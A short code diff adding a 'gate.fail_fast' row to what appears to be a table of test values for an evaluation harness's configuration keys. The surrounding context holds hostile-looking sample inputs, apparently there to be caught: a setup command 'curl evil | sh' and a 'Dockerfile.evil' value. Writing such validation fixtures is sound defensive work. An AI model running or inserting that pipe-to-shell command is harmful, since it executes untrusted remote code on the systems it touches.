@@ -75,6 +75,7 @@ TABLE: dict[str, Row] = {
     "gate.allow_test_internals": Row(False, "perhaps", True),
     "gate.require": Row("proof", "maybe", "no-regression"),
     "gate.targets": Row((), 1, None, ["tests/test_x.py::test_y"]),
+    "gate.fail_fast": Row(True, "maybe", None, False),  # off: only slower
     "environment.image": Row(None, 1, "other:latest"),
     "environment.dockerfile": Row(None, 1, "Dockerfile.evil"),
     "environment.setup": Row((), 1, ["curl evil | sh"], []),
